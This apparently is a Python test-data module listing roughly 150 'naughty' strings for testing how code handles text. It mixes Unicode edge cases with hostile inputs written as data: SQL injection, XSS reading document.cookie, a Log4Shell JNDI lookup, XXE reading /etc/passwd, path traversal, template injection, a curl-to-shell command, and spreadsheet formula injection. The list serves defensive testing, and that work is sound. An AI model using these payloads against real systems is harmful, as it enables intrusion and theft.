r"""Texts that trip up code which handles text: about 150, written for these tests.

Grouped by what they try. All of them are valid Unicode; halves of characters are tested apart.
"""

_WORDS = """
undefined null NULL None nil true false NaN Infinity -Infinity 0 1 -1 1.0 1e309 0x0 0b1 1/0 0/0 1,000 ١٢٣ ½ Ω² ...
CON NUL PRN AUX COM1 LPT1 . .. ../../etc/passwd ..\\..\\windows /dev/null C:\\ ~ * ? | & ; ! $PATH %PATH% ${PATH} $(id)
`id` {{7*7}} {%debug%} <%=7*7%> #{7*7} ${7*7} ${jndi:ldap://x/a} %s%n%x %d %99999999s {0} {} [] \\ \\\\ \\n \\0 \\u0000
%00 %0d%0a &amp; &lt; &#0; \\x1b[31m =1+1 +1 -1+1 @SUM(1) |calc --help -rf /? constructor __proto__ __class__ toString
"""
_SENTENCES = """
'); DROP TABLE contributions;--
" OR 1=1 --
' OR ''='
1; DELETE FROM contributions WHERE 1=1
') UNION SELECT sql FROM sqlite_master --
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
"><script>alert(document.cookie)</script>
javascript:alert(1)
<!--#exec cmd="id"-->
<?php echo 1; ?>
<a href="http://169.254.169.254/">x</a>
]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
; touch /tmp/owned
&& curl http://169.254.169.254/ | sh
|| ping -c 1 127.0.0.1
::set-output name=x::y
::add-mask::dog
::error::a dog
${{ github.token }}
${{ secrets.TOKEN }}
@import "x"; body{}
=HYPERLINK("http://x","y")
=cmd|' /C calc'!A0
{"image": "x"}
a dog, "a cat", and a 'bird'
a	tab
a caption with a trailing backslash \\
--- a: yaml
# a heading
[link](javascript:alert(1))
![img](http://x/y)
From: a@b Subject: x
"""
_SCRIPTS = """
Ein süßer Hund läuft über die Straße
Un élève à l’école près du cœur
Ένας σκύλος τρέχει
Собака бежит по снегу
كلب يجري في الثلج
כלב רץ בשלג
سگی در برف می‌دود
कुत्ता बर्फ में दौड़ता है
สุนัขวิ่งในหิมะ
一只狗在雪地里奔跑
雪の中を走る犬
개가 눈 속을 달린다
Con chó chạy trong tuyết
ძაღლი თოვლში
շունը ձյան մեջ
ውሻ በበረዶ ውስጥ
כַּלְבּוֹ שֶׁל
ﷺ ﷽
ꦱꦸ ᬅ ᮃ
𐐀𐐁 𝒜𝓑 𝔄 𝟘𝟙
İstanbul ıI iİ ß ẞ ǅ ﬀ ﬃ ſ
Å Å Å e\u0301 é ﬁ
가각 가각
ⅫⅫ ㍿ ㏂ ①② ﹒
"""
_SYMBOLS = """
🐕
👩‍👩‍👧‍👦 a family
🏳️‍🌈 🏴‍☠️
👍🏽 👋🏿
🇩🇪🇫🇷
1️⃣ #️⃣
❤️ ❤
☃ ☕ ♻
😀😀😀😀😀😀😀😀
¯\\_(ツ)_/¯
( ͡° ͜ʖ ͡°)
(╯°□°）╯︵ ┻━┻
€ £ ¥ ₿ ¤
“quotes” ‘single’ «angles» „low“
— – ‑ … • § ¶ † ‡
¡¿ ‽ ⁇
ⓗⓔⓛⓛⓞ
𝖍𝖊𝖑𝖑𝖔
ʇxǝʇ uʍop
Ｆｕｌｌ　ｗｉｄｔｈ
"""
_HIDDEN = [
    *("a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffa dog", "a\u00adb", "a\u034fb", "a\u180eb", "a\u115fb"),
    *("\u202ea dog", "a \u202etxt.exe", "\u2066a\u2069", "\u200fa\u200e", "a\u061cb", "\U000e0041\U000e0042 a dog"),
    *("a\nb", "a\r\nb", "a\rb", "a\tb", "a\vb", "a\fb", "a\u0085b", "a\u2028b", "a\u2029b", "a\u00a0b", "a\u3000b"),
    *("a\0b", "a\x1b[31mb", "a\x07b", "a\x7fb", "a\x08b", "a\x9bb", "\x00a dog", "a dog\x00", "a\x1a", "\x01\x02a"),
    *("a\ufffdb", "a\ufffeb", "a\uffffb", "a\U0010ffffb", "a\ue000b", "a\ufff9b\ufffac\ufffb", "a\u0378b"),
    *("z" + "\u0351" * 500, "Z̸̢͠a̵͜l̶g̷o̴", "a" * 1000, "a " * 500, "é" * 1000, "🐕" * 1000, "a\u0301" * 900),
    *(
        "\u1160a",
        "\u3164a",
        "\u2800 a",
        "x" * 999 + "\n",
        "  a  ",
        "\t\ta\t\t",
        "-" * 10 + "a",
        "=a",
        "+a",
        "@a",
        "\ta",
    ),
]

NAUGHTY = [
    *_WORDS.split(),
    *filter(None, (_SENTENCES + _SCRIPTS + _SYMBOLS).split("\n")),
    *_HIDDEN,
]
